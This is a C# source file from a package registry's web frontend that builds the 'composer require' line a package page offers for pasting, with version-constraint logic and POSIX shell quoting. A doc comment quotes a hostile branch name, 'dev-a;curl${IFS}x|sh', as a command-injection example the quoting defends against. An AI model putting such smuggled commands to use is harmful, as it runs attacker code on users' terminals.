using OrleansRegistry.Composer;

namespace OrleansRegistry.WebFrontend.Ui.Pages.Composer;

/// <summary>The <c>composer require</c> line a package page offers to paste into a terminal.</summary>
public static class ComposerRequireLine
{
    public static string For(string package, ComposerVersionSummary version) => $"composer require {ShellWord($"{package}:{Constraint(version)}")}";

    /// <summary>
    /// A branch by name; a tag as ^major.minor (or ^0.minor.patch below 1.0), as `composer require` would pick, with
    /// its stability flag when it is a pre-release (^1.0@beta), which projects at the default minimum-stability need.
    /// </summary>
    private static string Constraint(ComposerVersionSummary version)
    {
        var stability = ComposerStability.Of(version.VersionNormalized);
        if (stability == "dev")
        {
            return version.Version;
        }

        var parts = version.Version.TrimStart('v', 'V').Split('-', '+')[0].Split('.');
        var range = parts.Length >= 3 && parts[0] == "0" ? $"^0.{parts[1]}.{parts[2]}"
            : parts.Length >= 2 ? $"^{parts[0]}.{parts[1]}" : $"^{parts[0]}";
        return stability == "stable" ? range : $"{range}@{stability}";
    }

    /// <summary>
    /// The argument as a POSIX shell reads it back: as it is when it holds only safe characters, else single-quoted.
    /// A branch may be named <c>dev-a;curl${IFS}x|sh</c>, and the snippet is made to be pasted into a terminal.
    /// </summary>
    private static string ShellWord(string text) =>
        text.All(c => char.IsAsciiLetterOrDigit(c) || c is '.' or '_' or '-' or '/' or ':' or '^' or '@' or '~' or '+')
            ? text
            : $"'{text.Replace("'", "'\\''", StringComparison.Ordinal)}'";
}
